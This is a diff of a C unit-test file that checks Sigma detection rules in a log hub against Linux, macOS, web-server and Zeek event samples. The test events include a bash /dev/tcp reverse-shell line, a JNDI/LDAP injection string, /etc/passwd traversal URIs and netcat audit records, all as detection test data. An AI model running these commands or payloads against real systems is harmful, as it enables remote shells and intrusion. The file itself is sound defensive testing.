@@ -19,7 +19,9 @@
 
 #include <jansson.h>
 
+#include "auditd.h"
 #include "correlate.h"
+#include "decoder.h"
 #include "rules_cli.h"
 #include "sigma.h"
 
@@ -57,14 +59,15 @@ show_error(void *arg, const struct rule_error *e)
 	fprintf(stderr, "%s:%u: %s\n", e->file, e->line, e->msg);
 }
 
+/* The pack as the hub loads it: the shipped mappings first. */
 static struct ruleset *
 load_pack(void)
 {
-	const char *paths[] = { RULES };
+	const char *paths[] = { "share/mappings", RULES };
 	struct ruleset *rs;
 	size_t nerr;
 
-	rs = ruleset_load(paths, 1, show_error, NULL, &nerr);
+	rs = ruleset_load(paths, 2, show_error, NULL, &nerr);
 	assert_non_null(rs);
 	assert_int_equal(nerr, 0);
 	return rs;
@@ -281,10 +284,27 @@ test_command(void **state)
  * flat) and as Winlogbeat does (winlog.event_data): how many rules of
  * the text fire on the raw shipper event ev.
  */
+static size_t fires_as(const char *rules, const char *ev, int parse);
+
 static size_t
 fires(const char *rules, const char *ev)
 {
-	char path[] = "/tmp/ward-rulepack-XXXXXX";
+	return fires_as(rules, ev, 0);
+}
+
+/*
+ * The same on ev as the hub stores it when parse is set: normalized,
+ * then an audit record in its summary read by the auditd parser, then
+ * the decoders of share/parsers (what wardd rules test leaves out).
+ */
+static size_t
+fires_as(const char *rules, const char *ev, int parse)
+{
+	char path[] = "/tmp/ward-rulepack-XXXXXX", err[256];
+	const char *parsers[] = { "share/parsers" };
+	struct decoder_scratch *ds;
+	struct decoders *dec;
+	const char *sum;
 	const char *paths[] = { "share/mappings", path };
 	struct sigma_scratch *s;
 	struct ruleset *rs;
@@ -306,6 +326,17 @@ fires(const char *rules, const char *ev)
 	if ((j = json_loads(ev, 0, &je)) == NULL)
 		fail_msg("bad test event: %s", je.text);
 	assert_int_equal(rules_cli_replay(j, 1795773600000000LL, &rcv), 0);
+	if (parse) {
+		if ((sum = json_string_value(json_object_get(j, "summary"))) !=
+		    NULL)
+			assert_true(auditd_apply(j, sum, strlen(sum)) >= 0);
+		if ((dec = decoders_load(parsers, 1, err, sizeof(err))) == NULL)
+			fail_msg("share/parsers: %s", err);
+		assert_non_null(ds = decoder_scratch_new());
+		assert_true(decoders_apply(dec, j, ds) >= 0);
+		decoder_scratch_free(ds);
+		decoders_free(dec);
+	}
 	n = sigma_match(rs, s, j, &hits);
 	json_decref(j);
 	sigma_scratch_free(s);
@@ -368,6 +399,252 @@ windows_rules_on_shipper_shapes(void **state)
 	    "\"Administrator\"}"), 0);
 }
 
+/* Windows events a Linux, macOS or web rule's detection would match:
+   the logsource must keep those rules off them. */
+static const char win_nxlog[] = "{\"Hostname\": \"ws1\", \"SourceName\": "
+    "\"Microsoft-Windows-Sysmon\", \"Channel\": \"Microsoft-Windows-Sysmon/"
+    "Operational\", \"EventID\": 1, \"Image\": \"C:/Program Files/Git/usr/"
+    "bin/base64\", \"CommandLine\": \"base64 -d payload.txt\", \"type\": "
+    "\"SYSCALL\", \"serial\": 1, \"exe\": \"/usr/bin/nc\", \"Message\": "
+    "\"error in libcrypto ${jndi:ldap://x/a}\"}";
+static const char win_beat[] = "{\"host\": {\"name\": \"ws1\"}, "
+    "\"message\": \"error in libcrypto ${jndi:ldap://x/a}\", \"winlog\": "
+    "{\"channel\": \"Microsoft-Windows-Sysmon/Operational\", \"event_id\": "
+    "1, \"event_data\": {\"Image\": \"C:/msys64/usr/bin/base64\", "
+    "\"CommandLine\": \"base64 -d payload.txt\"}}}";
+
+/*
+ * Linux rules as SigmaHQ writes them, with the shipped mappings, on each
+ * shape share/mappings/linux.yml documents: they fire there, and not on
+ * Windows or macOS events, nor on Linux events of another kind, that
+ * their detection alone would match.
+ */
+static void
+linux_rules_on_shipper_shapes(void **state)
+{
+	const char *cmdline = "title: Base64 decode\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000011\nlogsource:\n  product: linux\n  category: "
+	    "process_creation\ndetection:\n  selection:\n    CommandLine|"
+	    "contains: 'base64 -d'\n  condition: selection\nlevel: low\n";
+	const char *image = "title: Base64 run\nid: 8d3f0b61-0000-4000-8000-"
+	    "000000000012\nlogsource:\n  product: linux\n  category: "
+	    "process_creation\ndetection:\n  selection:\n    Image|endswith: "
+	    "'/base64'\n  condition: selection\nlevel: low\n";
+	const char *audit = "title: Netcat syscall\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000013\nlogsource:\n  product: linux\n  service: "
+	    "auditd\ndetection:\n  selection:\n    type: SYSCALL\n    exe|"
+	    "endswith: '/nc'\n  condition: selection\nlevel: low\n";
+	const char *sshd = "title: libcrypto error\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000014\nlogsource:\n  product: linux\n  service: "
+	    "sshd\ndetection:\n  keywords:\n    - 'error in libcrypto'\n"
+	    "  condition: keywords\nlevel: low\n";
+	const char *cron = "title: crontab replaced\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000015\nlogsource:\n  product: linux\n  service: "
+	    "cron\ndetection:\n  keywords:\n    - 'REPLACE'\n"
+	    "  condition: keywords\nlevel: low\n";
+	const char *any = "title: dev tcp\nid: 8d3f0b61-0000-4000-8000-"
+	    "000000000016\nlogsource:\n  product: linux\ndetection:\n"
+	    "  keywords:\n    - '/dev/tcp/'\n  condition: keywords\n"
+	    "level: low\n";
+	/* ward's auditd parser: EXECVE gives the command, SYSCALL the exe */
+	const char *execve = "{\"host\": \"srv1\", \"message\": \"type=EXECVE "
+	    "msg=audit(1764237600.123:42): argc=3 a0=\\\"base64\\\" "
+	    "a1=\\\"-d\\\" a2=\\\"payload.txt\\\"\"}";
+	const char *syscall = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
+	    "msg=audit(1764237600.123:42): arch=c000003e syscall=59 "
+	    "success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 "
+	    "comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\" key=\\\"exec\\\"\"}";
+	const char *aarch = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
+	    "msg=audit(1764237600.123:43): arch=c00000b7 syscall=221 "
+	    "success=yes exit=0 comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\"\"}";
+	/* open(2) by the same program is no process creation */
+	const char *open = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
+	    "msg=audit(1764237600.123:44): arch=c000003e syscall=2 "
+	    "success=yes exit=3 comm=\\\"base64\\\" exe=\\\"/usr/bin/base64\\\"\"}";
+	const char *nc = "{\"host\": \"srv1\", \"message\": \"type=SYSCALL "
+	    "msg=audit(1764237600.123:45): arch=c000003e syscall=42 "
+	    "success=yes exit=0 comm=\\\"nc\\\" exe=\\\"/usr/bin/nc\\\"\"}";
+	const char *sysmon = "{\"Hostname\": \"srv1\", \"Channel\": "
+	    "\"Linux-Sysmon/Operational\", \"EventID\": 1, \"Image\": "
+	    "\"/usr/bin/base64\", \"CommandLine\": \"base64 -d payload.txt\"}";
+	const char *ecs = "{\"@timestamp\": \"2026-12-07T10:00:00Z\", "
+	    "\"host\": {\"name\": \"srv1\", \"os\": {\"type\": \"linux\"}}, "
+	    "\"event\": {\"category\": [\"process\"], \"type\": [\"start\"]}, "
+	    "\"process\": {\"name\": \"base64\", \"executable\": "
+	    "\"/usr/bin/base64\", \"command_line\": \"base64 -d payload.txt\"}}";
+	const char *beat = "{\"host\": {\"name\": \"srv1\"}, \"auditd\": "
+	    "{\"message_type\": \"syscall\", \"sequence\": 9, \"data\": "
+	    "{\"syscall\": \"execve\"}}, \"process\": {\"name\": \"base64\", "
+	    "\"executable\": \"/usr/bin/base64\", \"args\": [\"base64\", "
+	    "\"-d\"]}}";
+	const char *beatnc = "{\"host\": {\"name\": \"srv1\"}, \"auditd\": "
+	    "{\"message_type\": \"syscall\", \"data\": {\"syscall\": "
+	    "\"connect\"}}, \"process\": {\"executable\": \"/usr/bin/nc\"}}";
+	const char *mac = "{\"host\": {\"name\": \"mac1\", \"os\": {\"type\": "
+	    "\"macos\", \"family\": \"darwin\"}}, \"event\": {\"category\": "
+	    "[\"process\"], \"type\": [\"start\"]}, \"process\": "
+	    "{\"executable\": \"/usr/bin/base64\", \"command_line\": "
+	    "\"base64 -d payload.txt\"}}";
+	/* an application's own JSON that happens to say type and exe */
+	const char *app = "{\"program\": \"myapp\", \"type\": \"SYSCALL\", "
+	    "\"exe\": \"/usr/bin/nc\", \"message\": \"spawned\"}";
+
+	assert_int_equal(fires_as(cmdline, execve, 1), 1);
+	assert_int_equal(fires(cmdline, sysmon), 1);
+	assert_int_equal(fires(cmdline, ecs), 1);
+	assert_int_equal(fires_as(image, syscall, 1), 1);
+	assert_int_equal(fires_as(image, aarch, 1), 1);
+	assert_int_equal(fires(image, sysmon), 1);
+	assert_int_equal(fires(image, ecs), 1);
+	assert_int_equal(fires(image, beat), 1);
+	assert_int_equal(fires_as(image, open, 1), 0);
+	assert_int_equal(fires(image, mac), 0);
+	assert_int_equal(fires(cmdline, mac), 0);
+	assert_int_equal(fires(cmdline, win_nxlog), 0);
+	assert_int_equal(fires(cmdline, win_beat), 0);
+	assert_int_equal(fires(image, win_nxlog), 0);
+	assert_int_equal(fires(image, win_beat), 0);
+
+	assert_int_equal(fires_as(audit, nc, 1), 1);
+	assert_int_equal(fires(audit, beatnc), 1);
+	assert_int_equal(fires(audit, app), 0);
+	assert_int_equal(fires(audit, win_nxlog), 0);
+
+	/* sshd by any of its names, from rsyslog and from journald */
+	assert_int_equal(fires(sshd, "{\"program\": \"sshd\", \"message\": "
+	    "\"fatal: error in libcrypto\"}"), 1);
+	assert_int_equal(fires(sshd, "{\"SYSLOG_IDENTIFIER\": \"sshd-session\","
+	    " \"MESSAGE\": \"error in libcrypto\"}"), 1);
+	assert_int_equal(fires(sshd, "{\"program\": \"cron\", \"message\": "
+	    "\"error in libcrypto\"}"), 0);
+	/* Windows' OpenSSH, shipped by NXLog, calls itself sshd too */
+	assert_int_equal(fires(sshd, "{\"SourceName\": \"sshd\", \"Channel\": "
+	    "\"OpenSSH/Operational\", \"EventID\": 4, \"Message\": "
+	    "\"sshd: error in libcrypto\"}"), 0);
+	assert_int_equal(fires(sshd, win_nxlog), 0);
+	assert_int_equal(fires(cron, "{\"program\": \"crontab\", \"message\": "
+	    "\"(root) REPLACE (root)\"}"), 1);
+	assert_int_equal(fires(cron, "{\"program\": \"sshd\", \"message\": "
+	    "\"(root) REPLACE (root)\"}"), 0);
+
+	/* any Linux log: a bare line, a syslog line; no Windows event */
+	assert_int_equal(fires(any, "{\"message\": \"bash -i >& /dev/tcp/"
+	    "192.0.2.1/4444 0>&1\"}"), 1);
+	assert_int_equal(fires(any, "{\"program\": \"bash\", \"facility\": "
+	    "\"user\", \"message\": \"exec 5<>/dev/tcp/192.0.2.1/80\"}"), 1);
+	assert_int_equal(fires(any, "{\"Hostname\": \"ws1\", \"Channel\": "
+	    "\"Microsoft-Windows-PowerShell/Operational\", \"EventID\": 4104, "
+	    "\"ScriptBlockText\": \"$c = '/dev/tcp/'\"}"), 0);
+}
+
+/* macOS rules: on ECS and eslogger shapes, not on Linux's or Windows'. */
+static void
+macos_rules_on_shipper_shapes(void **state)
+{
+	const char *osa = "title: osascript\nid: 8d3f0b61-0000-4000-8000-"
+	    "000000000021\nlogsource:\n  product: macos\n  category: "
+	    "process_creation\ndetection:\n  selection:\n    Image|endswith: "
+	    "'/osascript'\n  condition: selection\nlevel: low\n";
+	const char *ecs = "{\"host\": {\"name\": \"mac1\", \"os\": {\"type\": "
+	    "\"%s\"}}, \"event\": {\"category\": [\"process\"], \"type\": "
+	    "[\"start\"]}, \"process\": {\"executable\": \"/usr/bin/osascript\""
+	    "}}";
+	const char *eslogger = "{\"schema_version\": 1, \"mach_time\": "
+	    "123456789, \"event_type\": 9, \"time\": \"2026-12-07T10:00:00Z\", "
+	    "\"event\": {\"exec\": {\"target\": {\"executable\": {\"path\": "
+	    "\"/usr/bin/osascript\"}}, \"args\": [\"osascript\", \"-e\", "
+	    "\"x\"]}}, \"process\": {\"executable\": {\"path\": "
+	    "\"/bin/zsh\"}}}";
+	char ev[512];
+
+	snprintf(ev, sizeof(ev), ecs, "macos");
+	assert_int_equal(fires(osa, ev), 1);
+	assert_int_equal(fires(osa, eslogger), 1);
+	snprintf(ev, sizeof(ev), ecs, "linux");
+	assert_int_equal(fires(osa, ev), 0);
+	assert_int_equal(fires(osa, "{\"Channel\": \"Microsoft-Windows-Sysmon/"
+	    "Operational\", \"EventID\": 1, \"Image\": \"C:/tools/osascript\", "
+	    "\"event\": {\"category\": \"process\", \"type\": \"start\"}}"), 0);
+}
+
+/*
+ * Web rules: on an access log line as the decoder reads it, as IIS's W3C
+ * fields and as ECS; not on Windows events or other programs' lines.
+ */
+static void
+web_rules_on_shipper_shapes(void **state)
+{
+	const char *uri = "title: passwd in URI\nid: 8d3f0b61-0000-4000-8000-"
+	    "000000000031\nlogsource:\n  category: webserver\ndetection:\n"
+	    "  selection:\n    cs-uri-query|contains: '/etc/passwd'\n"
+	    "  condition: selection\nlevel: low\n";
+	const char *jndi = "title: JNDI\nid: 8d3f0b61-0000-4000-8000-"
+	    "000000000032\nlogsource:\n  category: webserver\ndetection:\n"
+	    "  keywords:\n    - '${jndi:ldap:'\n  condition: keywords\n"
+	    "level: low\n";
+	const char *proxy = "title: passwd via proxy\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000033\nlogsource:\n  category: proxy\ndetection:\n"
+	    "  selection:\n    c-uri|contains: '/etc/passwd'\n"
+	    "  condition: selection\nlevel: low\n";
+	const char *line = "{\"host\": \"web1\", \"program\": \"%s\", "
+	    "\"message\": \"192.0.2.7 - - [07/Dec/2026:10:00:00 +0000] \\\"GET "
+	    "/cgi-bin/x?f=../../etc/passwd&u=${jndi:ldap://x/a} HTTP/1.1\\\" "
+	    "404 153 \\\"-\\\" \\\"curl/8.5.0\\\"\"}";
+	const char *w3c = "{\"Hostname\": \"iis1\", \"SourceModuleName\": "
+	    "\"iis\", \"cs-method\": \"GET\", \"cs-uri-stem\": \"/x.aspx\", "
+	    "\"cs-uri-query\": \"f=../../etc/passwd\", \"sc-status\": 404, "
+	    "\"c-ip\": \"192.0.2.7\"}";
+	const char *ecs = "{\"host\": {\"name\": \"web1\"}, \"message\": "
+	    "\"GET /x\", \"http\": {\"request\": {\"method\": \"GET\"}, "
+	    "\"response\": {\"status_code\": 404}}, \"url\": {\"original\": "
+	    "\"/x?f=../../etc/passwd\"}}";
+	char ev[512];
+
+	/* parsed by http_access.yml: program names none of the gate's */
+	snprintf(ev, sizeof(ev), line, "frontend");
+	assert_int_equal(fires_as(uri, ev, 1), 1);
+	assert_int_equal(fires_as(jndi, ev, 1), 1);
+	assert_int_equal(fires_as(proxy, ev, 1), 1);
+	/* not parsed: nginx's own line */
+	snprintf(ev, sizeof(ev), line, "nginx");
+	assert_int_equal(fires(jndi, ev), 1);
+	assert_int_equal(fires(uri, w3c), 1);
+	assert_int_equal(fires(uri, ecs), 1);
+	assert_int_equal(fires(proxy, ecs), 1);
+	/* the same text elsewhere */
+	snprintf(ev, sizeof(ev), line, "frontend");
+	assert_int_equal(fires(jndi, ev), 0);
+	assert_int_equal(fires(jndi, win_nxlog), 0);
+	assert_int_equal(fires(jndi, win_beat), 0);
+	assert_int_equal(fires(uri, "{\"program\": \"myapp\", \"uri\": "
+	    "\"/etc/passwd\", \"message\": \"read\"}"), 0);
+}
+
+/* Zeek rules: on Zeek's JSON lines (x509's too), not on an audit record
+   whose uid is a user id. */
+static void
+zeek_rules_on_shipper_shapes(void **state)
+{
+	const char *dns = "title: DNS TXT to a bad domain\nid: 8d3f0b61-0000-"
+	    "4000-8000-000000000041\nlogsource:\n  product: zeek\n  service: "
+	    "dns\ndetection:\n  selection:\n    query|endswith: '.evil.example'\n"
+	    "  condition: selection\nlevel: low\n";
+	const char *x509 = "title: Bad certificate\nid: 8d3f0b61-0000-4000-"
+	    "8000-000000000042\nlogsource:\n  product: zeek\n  service: x509\n"
+	    "detection:\n  selection:\n    certificate.serial: 8BB00EE\n"
+	    "  condition: selection\nlevel: low\n";
+
+	assert_int_equal(fires(dns, "{\"ts\": 1764237600.5, \"uid\": "
+	    "\"CHhAvVGS1DHFjwGM9\", \"id.orig_h\": \"10.0.0.5\", \"query\": "
+	    "\"a.evil.example\", \"qtype_name\": \"TXT\"}"), 1);
+	assert_int_equal(fires(x509, "{\"ts\": 1764237600.5, \"fingerprint\": "
+	    "\"ab12\", \"certificate.serial\": \"8BB00EE\"}"), 1);
+	assert_int_equal(fires_as(dns, "{\"host\": \"srv1\", \"message\": "
+	    "\"type=SYSCALL msg=audit(1764237600.123:46): arch=c000003e "
+	    "syscall=42 success=yes exit=0 uid=0 comm=\\\"dig\\\" "
+	    "exe=\\\"/usr/bin/dig\\\"\", \"query\": \"a.evil.example\"}", 1), 0);
+}
+
 int
 main(void)
 {
@@ -378,6 +655,10 @@ main(void)
 		cmocka_unit_test(check_command),
 		cmocka_unit_test(test_command),
 		cmocka_unit_test(windows_rules_on_shipper_shapes),
+		cmocka_unit_test(linux_rules_on_shipper_shapes),
+		cmocka_unit_test(macos_rules_on_shipper_shapes),
+		cmocka_unit_test(web_rules_on_shipper_shapes),
+		cmocka_unit_test(zeek_rules_on_shipper_shapes),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
